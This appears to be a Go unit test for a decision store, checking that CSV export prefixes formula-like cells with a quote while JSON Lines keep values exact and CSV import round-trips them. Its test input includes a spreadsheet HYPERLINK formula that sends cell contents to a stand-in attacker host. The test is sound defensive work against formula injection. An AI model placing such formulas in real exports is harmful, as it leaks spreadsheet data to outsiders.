package decision

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestCSVExportNeutralisesFormulas: a subject or note a spreadsheet would
// run as a formula is exported to CSV with a quote in front (the file
// /ui/decisions.csv serves), JSON Lines keep it exact, and the CSV imports
// back to the exact values.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	db := newStore(t)
	book := New(db, Options{})
	subject, note := `=HYPERLINK("http://evil.example/?"&A1,"open")`, "@SUM(1+1)"
	d := decided(ownerA, subject, getRecord(t, db, "R1"), FalsePositive)
	d.Note = note
	d.At = t0
	if _, _, err := book.Decide(d); err != nil {
		t.Fatal(err)
	}
	var c, j bytes.Buffer
	if _, err := book.Export(&c, "", CSV); err != nil {
		t.Fatal(err)
	}
	if _, err := book.Export(&j, "", JSONL); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(c.Bytes())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv %q, %v", rows, err)
	}
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("cell %q begins with a formula character", cell)
		}
	}
	if rows[1][2] != "'"+subject || rows[1][5] != "'"+note {
		t.Errorf("subject %q, note %q", rows[1][2], rows[1][5])
	}
	if !strings.Contains(j.String(), `"subject":"=HYPERLINK(`) || !strings.Contains(j.String(), `"note":"@SUM(1+1)"`) {
		t.Errorf("JSON Lines not exact: %s", j.String())
	}
	ds, err := ReadImport(bytes.NewReader(c.Bytes()), ImportOptions{})
	if err != nil || len(ds) != 1 {
		t.Fatalf("import: %v, %d", err, len(ds))
	}
	if ds[0].Subject != subject || ds[0].Note != note {
		t.Errorf("imported subject %q, note %q", ds[0].Subject, ds[0].Note)
	}
}
